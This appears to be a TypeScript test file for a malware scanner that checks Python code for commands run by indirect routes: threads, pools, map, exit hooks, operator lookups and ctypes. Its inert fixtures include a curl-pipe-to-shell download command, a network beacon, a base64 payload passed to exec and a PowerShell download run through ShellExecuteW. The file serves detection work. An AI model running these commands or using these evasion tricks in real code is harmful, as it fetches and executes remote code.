// Calls that reach a process or the network by an indirect route: functions handed over to be called (threads,
// processes, pools, executors, map, exit hooks) read as the calls they become, and the C library or the Windows API
// reached through ctypes. Inert: reserved addresses only, never run.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { analyseFiles } from './in-memory-target.ts';

const COMMAND = '"curl http://192.0.2.5/x.sh | sh"';

async function rulesOf(code: string): Promise<string[]> {
  const report = await analyseFiles({ 'demo_pkg/__init__.py': code });
  return report.files.flatMap((file) => file.findings.map((f) => `${f.rule} ${f.severity} ${f.trigger}`));
}

test('a command handed to a thread, a process, a pool, map or an exit hook is the command run', async () => {
  for (const code of [
    `import os, threading\nthreading.Thread(target=os.system, args=(${COMMAND},)).start()\n`,
    `import os, multiprocessing\nmultiprocessing.Process(target=os.system, args=[${COMMAND}]).start()\n`,
    `import os\nlist(map(os.system, [${COMMAND}]))\n`,
    `import os, threading\nthreading.Timer(1.0, os.system, [${COMMAND}]).start()\n`,
    `import os\nfrom concurrent.futures import ThreadPoolExecutor\nThreadPoolExecutor().submit(os.system, ${COMMAND})\n`,
    `import os, atexit\natexit.register(os.system, ${COMMAND})\n`,
    `import subprocess, functools\nfunctools.partial(subprocess.call, ${COMMAND}, shell=True)()\n`,
  ]) {
    assert.ok((await rulesOf(code)).includes('download-execute critical import'), code);
  }
});

test('a method called by name through operator (methodcaller, attrgetter) is the call it names', async () => {
  for (const code of [
    `import operator, os\noperator.methodcaller("system", ${COMMAND})(os)\n`,
    `from operator import methodcaller\nimport subprocess\nrun = methodcaller("Popen", ${COMMAND}, shell=True)\nrun(subprocess)\n`,
    `import operator, os\nget = operator.attrgetter("sys" + "tem")\nget(os)(${COMMAND})\n`,
  ]) {
    assert.ok((await rulesOf(code)).includes('download-execute critical import'), code);
  }
  // a method of a local object, or a name that does not fold, names nothing
  const local = await rulesOf('import operator\nitems = [" a "]\nlist(map(operator.methodcaller("strip"), items))\n');
  assert.ok(!local.some((rule) => /process|download|exec/.test(rule)), local.join(' | '));
});

test('a URL handed to an executor is the request made; exec handed to a thread runs its code', async () => {
  const fetch = await rulesOf(
    'import requests\nfrom concurrent.futures import ThreadPoolExecutor\nThreadPoolExecutor().submit(requests.get, "https://collector.example/beacon")\n',
  );
  assert.ok(
    fetch.some((rule) => rule.startsWith('egress-network-call')),
    fetch.join(' | '),
  );
  const exec = await rulesOf(
    'import threading, base64\nthreading.Thread(target=exec, args=(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik="),)).start()\n',
  );
  assert.ok(exec.includes('exec-decoded-payload critical import'), exec.join(' | '));
});

test('a thread given a local function or a method is not a handed-over call of anything', async () => {
  const rules = await rulesOf(
    'import threading, os\ndef work(path):\n    return os.path.exists(path)\nthreading.Thread(target=work, args=("/tmp",)).start()\nlist(map(str.strip, ["a "]))\n',
  );
  assert.ok(!rules.some((rule) => /process|download|exec/.test(rule)), rules.join(' | '));
});

test('the C library and the Windows API through ctypes start processes as os.system does', async () => {
  const libc = await rulesOf(`import ctypes\nctypes.CDLL(None).system(b${COMMAND})\n`);
  assert.ok(libc.includes('download-execute critical import'), libc.join(' | '));
  const loaded = await rulesOf(`import ctypes\nctypes.cdll.LoadLibrary("libc.so.6").popen(b${COMMAND}, b"r")\n`);
  assert.ok(loaded.includes('download-execute critical import'), loaded.join(' | '));
  const shell = await rulesOf(
    'import ctypes\nctypes.windll.shell32.ShellExecuteW(None, "runas", "powershell.exe", "-c iwr http://192.0.2.5/a.exe -o a.exe", None, 0)\n',
  );
  assert.ok(
    shell.some((rule) => rule.startsWith('process-network-tool high')),
    shell.join(' | '),
  );
  const winexec = await rulesOf('import ctypes\nctypes.windll.kernel32.WinExec(b"cmd /c whoami", 0)\n');
  assert.ok(
    winexec.some((rule) => rule.startsWith('process-')),
    winexec.join(' | '),
  );
});
